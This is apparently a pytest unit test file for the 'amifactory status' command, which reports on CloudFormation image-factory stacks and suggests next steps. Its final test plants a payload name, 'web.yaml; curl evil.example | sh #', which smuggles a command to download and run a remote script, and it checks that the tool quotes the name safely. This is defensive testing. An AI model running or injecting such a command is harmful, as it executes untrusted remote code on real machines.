"""`amifactory status`: how the stacks of factories are."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime

import pytest

from generator.cli import targets
from generator.errors import DeniedError, Exit
from generator.ports.builds import Pipeline
from generator.ports.place import Place
from generator.ports.stacks import Body, Order
from tests.fakes.builds import FakeBuilds, build
from tests.fakes.stacks import START, FakeStacks
from tests.unit.cli.test_plan import WEB

TAGS = {"amifactory:factory": "web"}
ARN = "arn:aws:imagebuilder:eu-west-1:123456789012:image-pipeline/web-"
OUTPUTS = {"WebserverPipelineArn": f"{ARN}webserver", "ApiPipelineArn": f"{ARN}api"}
LIST = """\
STACK  CHANGED    STATE
shop   2 h ago    could not be updated; it is half changed, since rollback was off
web    3 min ago  is up
    webserver, api
"""
ONE = """\
Stack web (eu-west-1, 123456789012) is up, updated
  status     UPDATE_COMPLETE
  changed    2026-11-22 12:00:00 UTC, 3 min ago
  protected  yes, against deletion
  payload    web.yaml
  parameter  SubnetId=default-vpc
  outputs
    WebserverPipelineArn  arn:aws:imagebuilder:eu-west-1:123456789012:image-pipeline/web-webserver
    ApiPipelineArn        arn:aws:imagebuilder:eu-west-1:123456789012:image-pipeline/web-api
  images
    webserver
    api
"""
FAILED = """\
Stack web (eu-west-1, 123456789012) is up, as before its last update, which failed
  status     UPDATE_ROLLBACK_COMPLETE
  changed    2026-11-22 12:00:00 UTC, 3 min ago
  protected  no
  payload    web.yaml
  last failure
    failed  WebserverRecipe (AWS::ImageBuilder::ImageRecipe)
    cause   the parent image does not exist
    from    web.yaml:4
"""

pytestmark = pytest.mark.usefixtures("account")


@pytest.fixture
def account(monkeypatch):
    """CloudFormation in memory, three minutes after START."""
    stacks = FakeStacks()

    def place(region: str | None, profile: str | None) -> Place:
        return Place("123456789012", region or "eu-west-1", "aws", profile=profile or "")

    monkeypatch.setattr("generator.aws.identity.place", place)
    monkeypatch.setattr("generator.aws.stacks.connect", lambda _region, _profile: stacks)
    monkeypatch.setattr("generator.aws.builds.connect", _denied)
    monkeypatch.setattr(
        "generator.cli.surveying._now", lambda _world, _where: START.replace(minute=3)
    )
    monkeypatch.setenv("AMIFACTORY_POLL", "0.001")
    return stacks


def _denied(_region: str | None, _profile: str | None) -> object:
    raise DeniedError("may not list the image pipelines")


@pytest.fixture
def template(here):
    """The template of WEB."""
    (here / "web.yaml").write_text(WEB)
    return targets.of(("web.yaml",))[0][0].template


def test_nothing_is_told_with_the_way_on(amifactory) -> None:
    said = amifactory("status")

    assert Exit.DONE == said.code
    assert "" == said.out
    assert (
        "stacks in eu-west-1, 123456789012\nthere are none: `amifactory deploy PAYLOAD` makes one\n"
    ) == said.err


def test_all_stacks_of_factories(account, amifactory) -> None:
    """Others are not our business."""
    account.add("web", tags=TAGS, outputs=OUTPUTS)
    account.add("somebody-elses")
    account.add("shop", status="UPDATE_FAILED", tags={"amifactory:factory": "shop"})
    shop = account.held["shop"]
    shop.stack = replace(shop.stack, changed=datetime(2026, 11, 22, 10, 0, tzinfo=UTC))
    said = amifactory("status")

    assert LIST == said.out


def test_what_an_interrupted_deployment_left_is_listed_with_the_way_out(
    account, amifactory
) -> None:
    """An empty stack has no tags: it is ours by the name of its change set."""
    account.prepare(Order("web", "amifactory-1234", creates=True, body=Body("{}")))
    account.prepare(Order("theirs", "console-1234", creates=True, body=Body("{}")))

    said = amifactory("status")
    assert ["STACK", "web"] == [line.split()[0] for line in said.out.splitlines()]

    said = amifactory("status", "web")
    assert "`amifactory destroy web` removes it" in said.out


def test_who_may_not_list_stacks_sees_those_with_tags(account, amifactory, monkeypatch) -> None:
    def denied() -> None:
        raise DeniedError("cannot list stacks: no")

    monkeypatch.setattr(account, "shells", denied)
    account.add("web", tags=TAGS)

    assert ["STACK", "web"] == [each.split()[0] for each in amifactory("status").out.splitlines()]


def test_builds_are_asked_for_only_when_wanted(account, amifactory, monkeypatch) -> None:
    tags = {**TAGS, "amifactory:image": "Web server"}
    pipeline = Pipeline(
        f"{ARN}web-server",
        "web-web-server",
        tags=tags,
        last_run=START,
        last_status="AVAILABLE",
        next_run=datetime(2026, 11, 29, 4, 0, tzinfo=UTC),
    )
    foreign = Pipeline("arn", "other", tags={"amifactory:factory": "other"})
    builds = type("Builds", (), {"pipelines": lambda _self: (pipeline, foreign)})
    monkeypatch.setattr("generator.aws.builds.connect", lambda _region, _profile: builds())
    account.add("web", tags=TAGS)
    said = amifactory("status", "--builds")

    assert (
        "    Web server  available 3 min ago, next build on 2026-11-29 04:00 UTC\n"
    ) == said.out.splitlines(keepends=True)[-1]


def test_one_stack_tells_the_last_build_of_each_image(
    account, template, amifactory, monkeypatch
) -> None:
    """A stack that is up says nothing of its images."""
    told = {"last_run": START, "last_status": "AVAILABLE"}
    web = Pipeline(f"{ARN}server", "web-server", {**TAGS, "amifactory:image": "server"}, **told)
    never = Pipeline(f"{ARN}api", "web-api", {**TAGS, "amifactory:image": "api"})
    fake = FakeBuilds(web, never)
    fake.has(
        build("1.0.1/1", "FAILED", created=START, pipeline=web.arn),
        build(created=START, pipeline=web.arn),
    )
    monkeypatch.setattr("generator.aws.builds.connect", lambda _region, _profile: fake)
    account.add("web", template, tags=TAGS)

    assert ("  images\n    server  failed 3 min ago\n    api     not built yet\n") in amifactory(
        "status", "web"
    ).out


def test_one_stack(account, template, amifactory) -> None:
    account.add(
        "web",
        template,
        "UPDATE_COMPLETE",
        tags=TAGS,
        outputs=OUTPUTS,
        parameters={"SubnetId": "default-vpc"},
        protected=True,
    )
    said = amifactory("status", "web")

    assert Exit.DONE == said.code
    assert ONE == said.out


def test_a_payload_names_its_stack(account, template, amifactory) -> None:
    account.add("web", template, tags=TAGS)

    assert amifactory("status", "web").out == amifactory("status", "web.yaml").out


def test_a_factory_names_its_stack(account, template, amifactory) -> None:
    account.add("web-prod", template, tags=TAGS)

    assert "Stack web-prod" in amifactory("status", "web").out


def test_why_the_last_update_failed(account, template, amifactory) -> None:
    """The first cause of the last operation, not what followed, nor what failed before."""
    account.add("web", template, tags=TAGS)
    for logical_id, reason in (
        ("ApiRecipe", "an older failure"),
        ("WebserverRecipe", "the parent image does not exist"),
    ):
        failing(account, logical_id, reason)
    said = amifactory("status", "web")

    assert FAILED == said.out


def failing(account: FakeStacks, logical_id: str, reason: str) -> None:
    """An update in which this fails."""
    held = account.held["web"]
    kind = "AWS::ImageBuilder::ImageRecipe"
    own = "AWS::CloudFormation::Stack"
    held.queue.extend(
        (
            ("web", own, "UPDATE_IN_PROGRESS", "User Initiated"),
            (logical_id, kind, "UPDATE_FAILED", reason),
            ("ApiPipeline", kind, "UPDATE_FAILED", "Resource update cancelled"),
            ("web", own, "UPDATE_ROLLBACK_IN_PROGRESS", "it failed"),
            ("web", own, "UPDATE_ROLLBACK_COMPLETE", ""),
        )
    )
    while held.queue:
        account.events("web")


def test_watching_follows_what_is_under_way(account, template, amifactory) -> None:
    account.add("web", template, tags=TAGS)
    held = account.held["web"]
    own = "AWS::CloudFormation::Stack"
    held.queue.extend(
        (
            ("web", own, "UPDATE_IN_PROGRESS", "User Initiated"),
            ("ApiRecipe", "AWS::ImageBuilder::ImageRecipe", "UPDATE_COMPLETE", ""),
            ("web", own, "UPDATE_COMPLETE", ""),
        )
    )
    account.events("web")
    said = amifactory("status", "web", "--watch")

    assert Exit.DONE == said.code
    assert "ApiRecipe (AWS::ImageBuilder::ImageRecipe) update complete" in said.err
    assert said.out.startswith("Stack web (eu-west-1, 123456789012) is up, updated\n")


def test_watching_what_ends_badly_exits_one(account, template, amifactory) -> None:
    account.add("web", template, tags=TAGS)
    own = "AWS::CloudFormation::Stack"
    account.held["web"].queue.extend(
        (
            ("web", own, "UPDATE_IN_PROGRESS", "User Initiated"),
            ("ApiRecipe", "AWS::ImageBuilder::ImageRecipe", "UPDATE_FAILED", "no such image"),
            ("web", own, "UPDATE_ROLLBACK_IN_PROGRESS", ""),
            ("web", own, "UPDATE_ROLLBACK_COMPLETE", ""),
        )
    )
    account.events("web")
    said = amifactory("status", "web", "--watch")

    assert Exit.FAILED == said.code
    assert "    cause   no such image\n" in said.out


def test_watching_a_stack_at_rest_shows_it(account, template, amifactory) -> None:
    account.add("web", template, tags=TAGS)
    said = amifactory("status", "web", "--watch")

    assert (Exit.DONE, "") == (said.code, said.err)


@pytest.mark.parametrize(
    ("status", "told"),
    [
        ("ROLLBACK_COMPLETE", "next: run `amifactory deploy web.yaml`: it offers"),
        ("UPDATE_ROLLBACK_FAILED", "--stack-name web --region eu-west-1`"),
        ("CREATE_IN_PROGRESS", "next: run `amifactory status web --watch`"),
    ],
)
def test_what_to_do_next(account, template, amifactory, status: str, told: str) -> None:
    account.add("web", template, status, tags=TAGS)

    assert told in amifactory("status", "web").out


def test_a_stack_that_is_not_there(account, amifactory) -> None:
    account.add("shop", tags={"amifactory:factory": "shop"})
    said = amifactory("status", "shp")

    assert Exit.MACHINE == said.code
    assert "error: there is no stack shp in eu-west-1, 123456789012" in said.err
    assert "there is shop" in said.err


def test_json_for_programs(account, template, amifactory) -> None:
    account.add("web", template, "UPDATE_FAILED", tags=TAGS, outputs=OUTPUTS)
    (listed,) = amifactory("status", "--format", "json").json["stacks"]
    (one,) = amifactory("status", "web", "--format", "json").json["stacks"]

    assert ("web", "UPDATE_FAILED", True, False) == (
        listed["name"],
        listed["status"],
        listed["inTrouble"],
        listed["running"],
    )
    assert ["webserver", "api"] == [each["name"] for each in listed["images"]]
    assert one["next"].startswith("run `amifactory deploy web.yaml`")
    assert one["failure"] is None


def test_json_stays_json_when_aws_refuses(account, amifactory) -> None:
    account.raises["tagged"] = DeniedError("cannot list stacks: no")
    said = amifactory("status", "--format", "json")

    assert Exit.MACHINE == said.code
    assert "cannot list stacks: no" == said.json["error"]["message"]


def test_colour_is_only_one_more_signal(account, amifactory) -> None:
    account.add("shop", status="UPDATE_FAILED", tags={"amifactory:factory": "shop"})

    assert "\x1b[1;31mcould not be updated" in amifactory("status", "--color", "always").out
    assert "\x1b" not in amifactory("status").out


def test_watching_wants_a_name(amifactory) -> None:
    said = amifactory("status", "--watch")

    assert Exit.USAGE == said.code
    assert "--watch follows one stack" in said.err


def test_a_command_to_paste_holds_no_other(account, template, amifactory) -> None:
    """The payload's name comes from the template, which whoever deployed it could write."""
    notes = {"AmiFactory": {"Payload": "web.yaml; curl evil.example | sh #"}}
    account.add("web", {**template, "Metadata": notes}, "ROLLBACK_COMPLETE", tags=TAGS)

    assert "deploy 'web.yaml; curl evil.example | sh #'`" in amifactory("status", "web").out
